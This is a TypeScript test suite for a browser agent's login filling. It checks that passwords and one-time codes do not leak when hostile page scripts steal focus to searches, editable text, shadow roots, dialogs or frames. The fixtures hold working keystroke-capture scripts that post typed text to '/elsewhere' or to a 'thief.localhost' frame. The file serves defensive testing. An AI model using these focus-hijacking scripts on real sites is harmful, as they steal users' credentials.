import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Pages } from '../../activities/browser/index.js';
import { inputOf, testPages } from '../engine/login/harness.js';
import { onFlow } from '../engine/login/on-flow.js';
import { codePage, letIn, members, PASSWORD_PAGE } from '../sites/flows/members.js';
import { type Answer, serveFlow, type Visit } from '../sites/flows/serve.js';
import { variants } from '../support/variants.js';

/** Something else of the very page takes the focus while a value is typed: a search, a newsletter, a chat. Nothing of the value gets there. */
let pages: Pages;
beforeAll(async () => {
  pages = await testPages();
});
afterAll(() => pages.closeAll());

const PASSWORD = 'Sesame-Walrus-7730';
const CODE = '482913';

/** What other fields of the page get is told to the site, at once. */
const TELLS = `<input id="search" type="search" name="q" placeholder="Search"><div id="note" contenteditable>note</div><div id="host"></div>
  <script>
    const root = host.attachShadow({ mode: 'closed' });
    root.innerHTML = '<input id="inner">';
    const inner = root.getElementById('inner');
    const tell = (text) => fetch('/elsewhere', { method: 'POST', body: new URLSearchParams({ text }) });
    for (const one of [search, note, inner]) one.addEventListener('input', () => tell(one.value ?? one.textContent));
    const secret = document.getElementById('password') ?? document.getElementById('code') ?? document.querySelector('.box');
    const all = [...document.querySelectorAll('#password, #code, .box')];
    const on = (kind, act) => { for (const one of all) one.addEventListener(kind, act); };
  </script>`;

const THIEVES: (readonly [string, string])[] = [
  ['with the first key', `on('keydown', () => search.focus());`],
  ['before its input, to a search', `on('beforeinput', () => search.focus());`],
  ['before its input, to an editable text', `on('beforeinput', () => { note.focus(); });`],
  ['before its input, by the selection', `on('beforeinput', () => getSelection().selectAllChildren(note));`],
  ['before its input, into a closed shadow root', `on('beforeinput', () => inner.focus());`],
  ['with a late key', `let n = 0; on('keypress', () => { n += 1; if (n > 5) note.focus(); });`],
  ['as it gets the focus', `on('focus', () => search.focus());`],
  ['after it got the focus', `on('focus', () => setTimeout(() => inner.focus()));`],
  ['all the time', `setInterval(() => search.focus(), 1);`],
  [
    'as the field before it loses the focus',
    `document.querySelector('input').addEventListener('blur', () => setTimeout(() => search.focus(), 5));`,
  ],
  [
    'by a dialog',
    `const box = document.createElement('dialog'); box.innerHTML = '<input autofocus>'; document.body.append(box);
     box.firstChild.addEventListener('input', (event) => tell(event.target.value)); on('keydown', () => { if (!box.open) box.showModal(); });`,
  ],
  [
    'by a frame that comes late',
    `on('keydown', () => { if (document.querySelector('iframe')) return; const frame = document.createElement('iframe');
     frame.srcdoc = '<input autofocus oninput="parent.tell(value)"><script>document.querySelector(\\'input\\').focus()<' + '/script>'; document.body.append(frame); });`,
  ],
  [
    'by making all of the page editable',
    `on('beforeinput', () => { document.designMode = 'on'; document.body.addEventListener('input', (event) => { if (event.target === event.currentTarget) tell(document.body.innerText); }); });`,
  ],
  ['by becoming a plain field', `on('beforeinput', (event) => { event.target.type = 'text'; });`],
  ['by leaving the page', `on('beforeinput', (event) => { event.target.remove(); search.focus(); });`],
];

/** A page that keeps only what comes of real keys. */
const REAL = `let real = false; on('keydown', (event) => { real ||= event.isTrusted; });
  on('input', (event) => { if (!real) event.target.value = ''; });`;
const ALL = [...THIEVES, ...THIEVES.map(([name, thief]) => [`${name}, of real keys`, REAL + thief] as const)];

const site =
  (page: string) =>
  (visit: Visit): Answer | undefined => {
    if (visit.path === '/') return page;
    return visit.path === '/password' || visit.path === '/code'
      ? letIn
      : visit.path === '/elsewhere'
        ? ''
        : members(visit);
  };
const BOXES = `<h1>Enter the code</h1><p>Code from your app</p><form method="post" action="/code"><div>${Array.from({ length: 6 }, (_, n) => `<input class="box" name="d${n}" maxlength="1" inputmode="numeric" aria-label="Digit ${n + 1}" style="display:inline;width:2rem">`).join('')}</div><button>Verify</button></form>`;

const FORMS: readonly (readonly [string, string, Record<string, string> | null])[] = [
  ['a password', PASSWORD_PAGE, { email: 'anna@example.com', password: PASSWORD }],
  ['a code in boxes', BOXES, null],
  ['a code', codePage('Enter the code', 'Code from your app'), null],
];

describe.each(variants(1, FORMS))('%s', (_, page, values) => {
  it.each(variants(1, ALL))('goes nowhere else where the focus is taken %s', (_, thief) =>
    onFlow(pages, site(`${page}${TELLS}<script>${thief}</script>`), async (b, { posts }) => {
      const { page: open, outcome } = await b.open();
      const seen = inputOf(outcome);
      await b.fill(open, seen, values ?? { [seen.fields[0]?.name as string]: CODE });
      const told = posts.filter(({ path }) => path === '/elsewhere').map(({ fields }) => fields.text ?? '');
      expect(told).toEqual([]);
      await b.activities.closePage({ ...b.ref, page: open });
    }),
  );
});

describe('a frame of another site', () => {
  it('hears no real key, whoever gives it the focus in the middle of one', async () => {
    const told: string[] = [];
    const thief = await serveFlow(
      (visit) => {
        if (visit.path === '/told') told.push(visit.query.get('text') ?? '');
        return `<input id="in"><script>
          const input = document.getElementById('in');
          const tell = (text) => fetch('/told?' + new URLSearchParams({ text }));
          addEventListener('focus', () => input.focus());
          for (const kind of ['keydown', 'keypress', 'keyup']) addEventListener(kind, ({ key }) => tell(key));
          input.addEventListener('input', () => tell(input.value));
        </script>`;
      },
      { hostname: 'thief.localhost' },
    );
    const gives = `on('keydown', () => document.querySelector('iframe').focus());`;
    const page = `${PASSWORD_PAGE}${TELLS}<iframe src="${thief.origin}/"></iframe><script>${REAL}${gives}</script>`;
    try {
      await onFlow(pages, site(page), async (b) => {
        const { page: open, outcome } = await b.open();
        await b.fill(open, inputOf(outcome), { email: 'anna@example.com', password: PASSWORD });
        expect(told).toEqual([]);
        await b.activities.closePage({ ...b.ref, page: open });
      });
    } finally {
      await thief.stop();
    }
  });
});
